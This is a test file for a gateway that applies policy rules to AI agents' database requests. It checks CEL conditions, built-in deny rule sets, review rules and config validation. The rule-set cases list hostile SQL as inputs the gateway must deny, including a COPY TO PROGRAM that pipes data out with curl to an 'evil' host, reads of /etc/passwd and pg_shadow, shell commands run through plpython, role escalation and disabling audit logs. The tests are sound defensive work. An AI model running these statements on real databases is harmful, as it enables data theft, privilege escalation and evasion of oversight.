/**
 * The rule language (docs/policy.md): CEL `when` conditions, claims, action
 * wildcards, built-in rule sets and their effect override, opaque code, and boot-time
 * validation that names the path of what is wrong.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { ConfigError, GatewayConfig, validate, Gateway, createLogger, type GatewayError, type GatewayRequest, type Principal, type SessionInfo } from '@gatehouse/core'
import { RuleEngine, RULE_SETS } from '@gatehouse/plugin-policy'
import { SqlAnalyzer, loadSqlParser } from '@gatehouse/adapter-postgres'

const agent: Principal = Object.freeze({ id: 'agent-1', kind: 'agent', groups: ['agents'], claims: { team: 'payments', scopes: ['read', 'report'] }, credential: 'token:t' })
const other: Principal = Object.freeze({ id: 'agent-2', kind: 'agent', groups: ['agents'], claims: { team: 'growth' }, credential: 'token:u' })

const analyzer = new SqlAnalyzer()
beforeAll(() => loadSqlParser())

function request(attrs: Record<string, unknown>, opts: { action?: string; connection?: string; text?: string } = {}): GatewayRequest {
  const session: SessionInfo = { id: 's1', connection: opts.connection ?? 'orders', protocol: 'postgres', clientAddress: '127.0.0.1:1', startedAt: 0, tls: false, signal: new AbortController().signal }
  return { id: 's1.1', session, protocol: 'postgres', action: opts.action ?? 'sql.query', target: session.connection, attrs, receivedAt: 0, ...(opts.text ? { text: opts.text } : {}) }
}

/** A request for one SQL statement, with the facts the real analyzer reports. */
function sqlRequest(text: string): GatewayRequest {
  const a = analyzer.analyze(text)
  if (!a.ok) throw new Error(a.error)
  expect(a.statements).toHaveLength(1)
  return request({ sql: a.statements[0]?.facts }, { text })
}

function engine(policies: unknown[]): RuleEngine {
  const config = validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies })
  return new RuleEngine(config.policies)
}

describe('CEL when conditions', () => {
  it('request.text is the request text, and the empty string for a request without one', () => {
    const e = engine([{ id: 'p', rules: [{ id: 'has-text', effect: 'allow', when: 'request.text.contains("orders")' }, { id: 'no-text', effect: 'allow', when: 'request.text == ""' }] }])
    expect(e.decide(sqlRequest('SELECT * FROM orders'), agent)).toMatchObject({ verdict: 'allow', rule: 'p/has-text' })
    expect(e.decide(request({}), agent)).toMatchObject({ verdict: 'allow', rule: 'p/no-text' })
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'deny' })
  })

  it('sees the principal, its claims, the connection, the request and its sql attributes', () => {
    const e = engine([
      {
        id: 'p',
        rules: [
          { id: 'team-orders', effect: 'allow', when: 'principal.claims.team == "payments" && connection.name == "orders" && request.action == "sql.query" && request.sql.statement == "SELECT"' },
          { id: 'big', effect: 'deny', when: 'request.sql.statements > 1', reason: 'one statement per query' },
        ],
      },
    ])
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'allow', rule: 'p/team-orders' })
    expect(e.decide(sqlRequest('SELECT 1'), other)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
    const two = analyzer.analyze('SELECT 1; SELECT 2')
    expect(two.ok && e.decide(request({ sql: two.statements[0]?.facts }), agent)).toMatchObject({ verdict: 'deny', rule: 'p/big', reason: 'one statement per query' })
  })

  it('macros over lists: a table read anywhere in the statement', () => {
    const e = engine([
      { id: 'p', rules: [{ effect: 'allow' }, { id: 'no-payroll', effect: 'deny', when: 'request.sql.tables.exists(t, t == "payroll" || t.endsWith(".payroll"))' }] },
    ])
    expect(e.decide(sqlRequest('SELECT * FROM orders WHERE id IN (SELECT id FROM hr.payroll)'), agent)).toMatchObject({ verdict: 'deny', rule: 'p/no-payroll' })
    expect(e.decide(sqlRequest('SELECT * FROM orders'), agent).verdict).toBe('allow')
  })

  it('time is a timestamp: a rule can limit hours', () => {
    const e = engine([{ id: 'p', rules: [{ id: 'any-hour', effect: 'allow', when: 'time.getHours("UTC") >= 0 && time.getHours("UTC") < 24' }] }])
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'allow', rule: 'p/any-hour' })
  })

  it('a condition that fails to evaluate denies, naming the rule, even on an allow rule', () => {
    const e = engine([{ id: 'p', rules: [{ effect: 'allow' }, { id: 'ssh-only', effect: 'allow', when: 'request.ssh.command == "ls"' }] }])
    const d = e.decide(sqlRequest('SELECT 1'), agent)
    expect(d).toMatchObject({ verdict: 'deny', rule: 'p/ssh-only' })
    expect(d.reason).toMatch(/could not be evaluated/)
    // has() makes the same rule safe to write
    const safe = engine([{ id: 'p', rules: [{ id: 'ssh-only', effect: 'allow', when: 'has(request.ssh) && request.ssh.command == "ls"' }] }])
    expect(safe.decide(sqlRequest('SELECT 1'), agent).rule).toBe('default-deny')
  })

  it('a condition that is not boolean at run time denies', () => {
    const e = engine([{ id: 'p', rules: [{ id: 'dyn', effect: 'allow', when: 'request.sql.statement' }] }])
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'deny', rule: 'p/dyn' })
  })
})

describe('principals', () => {
  it('a policy can select principals by claim; list claims match any element', () => {
    const e = engine([
      { id: 'payments', principals: { claims: { team: ['payments'] } }, rules: [{ id: 'r', effect: 'allow' }] },
      { id: 'reporters', principals: { claims: { scopes: ['report'] } }, rules: [{ id: 'r', effect: 'review', reason: 'reports are reviewed' }] },
    ])
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'review', rule: 'reporters/r' })
    expect(e.decide(sqlRequest('SELECT 1'), other)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
  })
})

describe('actions', () => {
  it('a trailing .* matches every action of a protocol', () => {
    const e = engine([{ id: 'p', rules: [{ id: 'all-sql', effect: 'allow', actions: ['sql.*'] }] }])
    expect(e.decide(request({}, { action: 'sql.query' }), agent).verdict).toBe('allow')
    expect(e.decide(request({}, { action: 'sql.function-call' }), agent).verdict).toBe('allow')
    expect(e.decide(request({}, { action: 'ssh.exec' }), agent).verdict).toBe('deny')
  })
})

describe('built-in rule sets', () => {
  const readOnly = (include: unknown[]) =>
    engine([{ id: 'ro', include, rules: [{ id: 'reads', effect: 'allow', match: { 'sql.statement': ['SELECT', 'SHOW', 'EXPLAIN', 'SET', 'DO', 'COPY', 'CREATE', 'ALTER', 'GRANT', 'LOAD', 'INSERT', 'BEGIN', 'ROLLBACK PREPARED'] } }] }])

  it('every set is documented and has rules with ids and reasons', () => {
    for (const [name, set] of Object.entries(RULE_SETS)) {
      expect(set.description.length, name).toBeGreaterThan(10)
      for (const r of set.rules) {
        expect(r.id, name).toBeTruthy()
        expect(r.reason, `${name}/${r.id}`).toBeTruthy()
        expect(r.effect).toBe('deny')
      }
    }
  })

  it('a rule set decision names the policy, the set and the rule', () => {
    const e = readOnly(['sql-outbound'])
    expect(e.decide(sqlRequest("SELECT pg_read_file('/etc/passwd')"), agent)).toMatchObject({ verdict: 'deny', rule: 'ro/sql-outbound/server-files' })
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'allow', rule: 'ro/reads' })
  })

  it('an include can hold matching requests for review instead of denying them', () => {
    const e = readOnly([{ set: 'sql-write', effect: 'review' }])
    expect(e.decide(sqlRequest('INSERT INTO t VALUES (1)'), agent)).toMatchObject({ verdict: 'review', rule: 'ro/sql-write/writes' })
  })

  const cases: [string, string, string][] = [
    ['sql-outbound', "SELECT dblink('host=10.0.0.5', 'select 1')", 'dblink'],
    ['sql-outbound', "SELECT * FROM public.dblink_exec('x', 'y')", 'dblink'],
    ['sql-outbound', "COPY (SELECT 1) TO PROGRAM 'curl -d @- http://evil'", 'copy-program'],
    ['sql-outbound', "COPY t FROM '/etc/passwd'", 'copy-server-file'],
    ['sql-outbound', "SELECT lo_import('/etc/passwd')", 'large-object-files'],
    ['sql-outbound', 'SELECT * FROM pg_catalog.pg_ls_dir(\'.\') ORDER BY 1', 'server-files'],
    ['sql-outbound', 'SELECT U&"\\0070g_stat_file"(\'x\')', 'server-files'],
    ['sql-outbound', 'SELECT * FROM pg_hba_file_rules', 'config-files'],
    ['sql-outbound', "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.0.0.5')", 'foreign-data'],
    ['sql-outbound', "CREATE SUBSCRIPTION s CONNECTION 'host=10.0.0.5' PUBLICATION p", 'foreign-data'],
    ['sql-outbound', 'DO LANGUAGE plpython3u $$ import os; os.system("id") $$', 'untrusted-code'],
    ['sql-outbound', "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", 'untrusted-code'],
    ['sql-outbound', "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'server-files'],
    ['sql-privilege', 'SET ROLE postgres', 'role-change'],
    ['sql-privilege', 'SET SESSION AUTHORIZATION postgres', 'role-change'],
    ['sql-privilege', "SELECT set_config('role', 'postgres', false)", 'role-change'],
    ['sql-privilege', 'SET session_replication_role = replica', 'protected-settings'],
    ['sql-privilege', 'SET default_transaction_read_only = off', 'read-write-mode'],
    ['sql-privilege', "SELECT set_config('log_statement', 'none', true)", 'protected-settings'],
    ['sql-privilege', "ALTER SYSTEM SET archive_command = 'curl evil'", 'alter-system'],
    ['sql-privilege', 'CREATE EXTENSION dblink', 'extensions'],
    ['sql-privilege', "LOAD '/tmp/evil.so'", 'load'],
    ['sql-privilege', 'GRANT ALL ON ALL TABLES IN SCHEMA public TO agent', 'grants'],
    ['sql-privilege', 'ALTER ROLE agent SUPERUSER', 'roles'],
    ['sql-privilege', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'server-control'],
    ['sql-privilege', "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", 'security-definer'],
    ['sql-dynamic', "SELECT query_to_xml('delete from t returning *', true, false, '')", 'text-to-sql'],
    ['sql-dynamic', "SELECT table_to_xml('secrets', true, false, '')", 'text-to-sql'],
    ['sql-dynamic', "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'dynamic-plpgsql'],
    ['sql-write', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'writes'],
    ['sql-write', 'SELECT * INTO copy_of_t FROM t', 'writes'],
    ['sql-write', 'EXPLAIN ANALYZE UPDATE t SET a = 1', 'writes'],
    ['sql-write', "SELECT nextval('seq')", 'write-functions'],
    ['sql-write', 'DO $$ BEGIN DELETE FROM t; END $$', 'writes'],
    ['sql-outbound', "SELECT ('/etc/passwd'::text).pg_read_file", 'server-files'],
    ['sql-outbound', "SELECT (pg_relation_filepath('payroll')).pg_read_binary_file", 'server-files'],
    ['sql-privilege', "SELECT mydb.pg_catalog.set_config('session_authorization', 'postgres', false)", 'role-change'],
    ['sql-privilege', 'SET TRANSACTION READ WRITE', 'read-write-mode'],
    ['sql-privilege', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'read-write-mode'],
    ['sql-privilege', 'SET default_transaction_read_only TO DEFAULT', 'read-write-mode'],
    ['sql-privilege', "SET pgaudit.log = 'none'", 'audit-settings'],
    ['sql-privilege', "SELECT (pid).pg_terminate_backend FROM pg_stat_activity", 'server-control'],
    ['sql-privilege', "SELECT * FROM pg_logical_slot_get_changes('slot', NULL, NULL)", 'server-control'],
    ['sql-secrets', 'SELECT * FROM pg_catalog.pg_shadow', 'catalog-secrets'],
    ['sql-secrets', 'SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s', 'session-activity'],
    ['sql-secrets', 'SELECT umoptions FROM pg_user_mappings', 'catalog-secrets'],
    ['sql-write', "SELECT (4242::oid).lo_unlink", 'write-functions'],
    ['sql-write', "SELECT brin_summarize_new_values('idx')", 'write-functions'],
    ['sql-write', "ROLLBACK PREPARED 'gid'", 'two-phase'],
    ['sql-write', 'WITH x AS (SELECT * FROM t FOR SHARE) SELECT 1', 'row-locks'],
    ['sql-ddl', 'CREATE TABLE x AS SELECT 1', 'ddl'],
    ['sql-ddl', 'ALTER TABLE t ADD COLUMN c int', 'ddl'],
  ]
  for (const [set, text, rule] of cases) {
    it(`${set} denies ${text} by ${rule}`, () => {
      expect(readOnly([set]).decide(sqlRequest(text), agent)).toMatchObject({ verdict: 'deny', rule: `ro/${set}/${rule}` })
    })
  }

  it('does not deny ordinary reads', () => {
    const e = readOnly(Object.keys(RULE_SETS))
    for (const text of ['SELECT lower(name), count(*) FROM orders GROUP BY 1 ORDER BY 2 DESC', 'WITH x AS (SELECT 1 AS a) SELECT a FROM x', 'SHOW work_mem', "SET statement_timeout = '5s'", 'EXPLAIN SELECT * FROM orders', 'SET TRANSACTION READ ONLY', "SET default_transaction_read_only = 'on'", 'SELECT o.id, o.total FROM orders o']) {
      expect(e.decide(sqlRequest(text), agent), text).toMatchObject({ verdict: 'allow', rule: 'ro/reads' })
    }
  })
})

describe('opaque code', () => {
  it('is denied unless an allow rule sets allowOpaque', () => {
    const text = 'DO LANGUAGE plperl $$ print 1 $$'
    const plain = engine([{ id: 'p', rules: [{ id: 'do', effect: 'allow', match: { 'sql.statement': ['DO'] } }] }])
    const d = plain.decide(sqlRequest(text), agent)
    expect(d).toMatchObject({ verdict: 'deny', rule: 'gatehouse/opaque-code' })
    expect(d.reason).toContain('plperl')
    expect(d.reason).toContain('p/do')
    const opaque = engine([{ id: 'p', rules: [{ id: 'do', effect: 'allow', allowOpaque: true, match: { 'sql.statement': ['DO'] } }] }])
    expect(opaque.decide(sqlRequest(text), agent)).toMatchObject({ verdict: 'allow', rule: 'p/do' })
  })

  it('analysable PL/pgSQL is not opaque', () => {
    const plain = engine([{ id: 'p', rules: [{ id: 'do', effect: 'allow', match: { 'sql.statement': ['DO'] } }] }])
    expect(plain.decide(sqlRequest('DO $$ BEGIN PERFORM 1; END $$'), agent)).toMatchObject({ verdict: 'allow', rule: 'p/do' })
  })
})

describe('validation at boot', () => {
  const build = (policies: unknown[]) =>
    Gateway.build(validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: { host: '127.0.0.1', port: 5432, database: 'x', user: 'x' } }], policies }), { logger: createLogger('silent') })

  it('bad CEL names the rule path and the problem', async () => {
    await expect(build([{ id: 'p', rules: [{ effect: 'allow' }, { effect: 'deny', when: 'request.sql.statement == ' }] }])).rejects.toThrow(/policies\[0\]\.rules\[1\]\.when: invalid CEL/)
    await expect(build([{ id: 'p', rules: [{ effect: 'deny', when: 'requst.sql.statement == "x"' }] }])).rejects.toThrow(/policies\[0\]\.rules\[0\]\.when: invalid CEL/)
    await expect(build([{ id: 'p', rules: [{ effect: 'deny', when: '1 + 2' }] }])).rejects.toThrow(/policies\[0\]\.rules\[0\]\.when: a when condition must be boolean/)
  })

  it('an unknown action names the path and the actions the connection produces', async () => {
    await expect(build([{ id: 'p', rules: [{ effect: 'allow', actions: ['sql.querry'] }] }])).rejects.toThrow(/policies\[0\]\.rules\[0\]\.actions\[0\]: unknown action "sql.querry"; this policy's connections produce: sql.query/)
    await expect(build([{ id: 'p', rules: [{ effect: 'allow', actions: ['ssh.*'] }] }])).rejects.toThrow(/unknown action "ssh\.\*"/)
    await expect(build([{ id: 'p', rules: [{ effect: 'allow', actions: ['sql.*'] }] }])).resolves.toBeDefined()
  })

  it('an unknown rule set names the include path and the sets there are', async () => {
    await expect(build([{ id: 'p', include: ['sql-outbund'], rules: [] }])).rejects.toThrow(/policies\[0\]\.include\[0\]: unknown rule set "sql-outbund"; built-in sets are sql-outbound/)
  })

  it('rule sets a plugin ships are included by name like built-in ones, with their effect override and index ids', () => {
    const shipped = {
      'test-drops': { description: 'no drops', rules: [{ id: 'drop', effect: 'deny' as const, match: { 'sql.statement': ['DROP'] }, reason: 'no drops' }, { effect: 'deny' as const, match: { 'sql.statement': ['TRUNCATE'] } }] },
    }
    const config = validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies: [{ id: 'p', include: ['test-drops'], rules: [{ id: 'rest', effect: 'allow' }] }, { id: 'q', principals: { ids: ['agent-2'] }, include: [{ set: 'test-drops', effect: 'review' }], rules: [{ id: 'rest', effect: 'allow' }] }] })
    const e = new RuleEngine(config.policies, shipped)
    expect(e.decide(sqlRequest('DROP TABLE orders'), agent)).toEqual({ verdict: 'deny', rule: 'p/test-drops/drop', reason: 'no drops' })
    expect(e.decide(sqlRequest('TRUNCATE orders'), agent)).toMatchObject({ verdict: 'deny', rule: 'p/test-drops/1', reason: 'matched deny rule p/test-drops/1' })
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toMatchObject({ verdict: 'allow', rule: 'p/rest' })
    // agent-2 is under q too: q holds what p denies, and deny still wins
    expect(e.decide(sqlRequest('DROP TABLE orders'), other)).toMatchObject({ verdict: 'deny', rule: 'p/test-drops/drop' })
    const reviewOnly = new RuleEngine(validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies: [{ id: 'q', include: [{ set: 'test-drops', effect: 'review' }], rules: [{ id: 'rest', effect: 'allow' }] }] }).policies, shipped)
    expect(reviewOnly.decide(sqlRequest('DROP TABLE orders'), agent)).toMatchObject({ verdict: 'review', rule: 'q/test-drops/drop' })
    // without the plugin, the set is unknown; with it, an unknown name lists it
    expect(() => new RuleEngine(config.policies)).toThrow('policies[0].include[0]: unknown rule set "test-drops"')
    expect(() => new RuleEngine(validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies: [{ id: 'p', include: ['test-drop'], rules: [] }] }).policies, shipped)).toThrow(
      /^policies\[0\]\.include\[0\]: unknown rule set "test-drop"; built-in sets are sql-outbound, .*, mongo-cross-collection; the loaded plugins ship test-drops$/,
    )
    // a shipped name may not shadow a built-in one, even when no policy includes it
    expect(() => new RuleEngine([], { 'sql-write': shipped['test-drops'] })).toThrow('plugins: a plugin ships rule set "sql-write", the name of a built-in set')
    // the built-in set wins its own name: a policy including sql-outbound gets the built-in rules
    expect(() => new RuleEngine(validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies: [{ id: 'p', include: ['sql-outbound'], rules: [] }] }).policies, { 'sql-outbound': shipped['test-drops'] })).toThrow(/the name of a built-in set/)
  })

  it('every bad rule and rule set of every policy is reported at once, each at its path; the good rules around them do not hide them', async () => {
    const err = (await build([
      { id: 'p', include: ['sql-outbound', 'sql-outbund'], rules: [{ effect: 'allow' }, { effect: 'deny', when: 'request.sql.statement == ' }, { effect: 'deny', when: '1 + 2' }] },
      { id: 'q', include: [{ set: 'nope', effect: 'review' }], rules: [{ effect: 'deny', when: 'requst.x == 1' }] },
    ]).catch((e: unknown) => e)) as ConfigError
    expect(err).toBeInstanceOf(ConfigError)
    expect(err.code).toBe('GH_ERR_CONFIG_INVALID')
    expect(err.issues.map((i) => `${i.path}: ${i.message.replace(/^(invalid CEL|a when condition must be boolean).*$/, '$1')}`)).toEqual([
      'policies[0].include[1]: unknown rule set "sql-outbund"; built-in sets are sql-outbound, sql-privilege, sql-dynamic, sql-secrets, sql-write, sql-ddl, k8s-exec, k8s-portforward, k8s-host-access, k8s-escalation, mongo-write, mongo-js, mongo-admin, mongo-cross-collection',
      'policies[0].rules[1].when: invalid CEL',
      'policies[0].rules[2].when: a when condition must be boolean',
      'policies[1].include[0]: unknown rule set "nope"; built-in sets are sql-outbound, sql-privilege, sql-dynamic, sql-secrets, sql-write, sql-ddl, k8s-exec, k8s-portforward, k8s-host-access, k8s-escalation, mongo-write, mongo-js, mongo-admin, mongo-cross-collection',
      'policies[1].rules[0].when: invalid CEL',
    ])
    // rule indexes of two digits are paths like any other
    const many = (await build([{ id: 'p', rules: [...Array.from({ length: 12 }, () => ({ effect: 'allow' })), { effect: 'deny', when: '((' }, { effect: 'deny', when: '))' }] }]).catch((e: unknown) => e)) as ConfigError
    expect(many.issues.map((i) => i.path)).toEqual(['policies[0].rules[12].when', 'policies[0].rules[13].when'])
    // one problem alone is one GatewayError, its message the path and the problem
    const one = (await build([{ id: 'p', include: ['sql-outbound'], rules: [{ effect: 'allow' }, { effect: 'deny', when: '"x"' }] }]).catch((e: unknown) => e)) as GatewayError
    expect(one).not.toBeInstanceOf(ConfigError)
    expect(one.message).toBe('policies[0].rules[1].when: a when condition must be boolean, this one is string')
  })

  it('unknown fields are named by path', () => {
    expect(() => validate(GatewayConfig, { connections: [{ name: 'orders', adapter: 'postgres', listen: '127.0.0.1:0', upstream: {} }], policies: [{ id: 'p', rules: [{ effect: 'allow', whne: 'true' }] }] })).toThrow(/policies\[0\]\.rules\[0\]\.whne: unknown field/)
  })
})


describe('review rules', () => {
  it('carry their approvals and timeout into the decision; without them the decision has neither; allow and deny rules never carry them', () => {
    const e = engine([
      {
        id: 'p',
        rules: [
          { id: 'two', effect: 'review', match: { 'sql.statement': ['DELETE'] }, review: { approvals: 2, timeoutSeconds: 90 } },
          { id: 'timeout-only', effect: 'review', match: { 'sql.statement': ['UPDATE'] }, review: { timeoutSeconds: 5 } },
          { id: 'approvals-only', effect: 'review', match: { 'sql.statement': ['INSERT'] }, review: { approvals: 3 } },
          { id: 'plain', effect: 'review', match: { 'sql.statement': ['TRUNCATE'] } },
          { id: 'reads', effect: 'allow', match: { 'sql.statement': ['SELECT'] } },
        ],
      },
    ])
    expect(e.decide(sqlRequest('DELETE FROM t'), agent)).toEqual({ verdict: 'review', rule: 'p/two', reason: 'matched review rule p/two', approvals: 2, timeoutMs: 90_000 })
    expect(e.decide(sqlRequest('UPDATE t SET a = 1'), agent)).toEqual({ verdict: 'review', rule: 'p/timeout-only', reason: 'matched review rule p/timeout-only', timeoutMs: 5000 })
    expect(e.decide(sqlRequest('INSERT INTO t VALUES (1)'), agent)).toEqual({ verdict: 'review', rule: 'p/approvals-only', reason: 'matched review rule p/approvals-only', approvals: 3 })
    expect(e.decide(sqlRequest('TRUNCATE t'), agent)).toEqual({ verdict: 'review', rule: 'p/plain', reason: 'matched review rule p/plain' })
    expect(e.decide(sqlRequest('SELECT 1'), agent)).toEqual({ verdict: 'allow', rule: 'p/reads', reason: 'allowed' })
  })

  it('review options are refused on a rule that is not a review, at boot', () => {
    expect(() => engine([{ id: 'p', rules: [{ id: 'a', effect: 'allow', review: { approvals: 2 } }] }])).toThrow(/review/)
  })
})
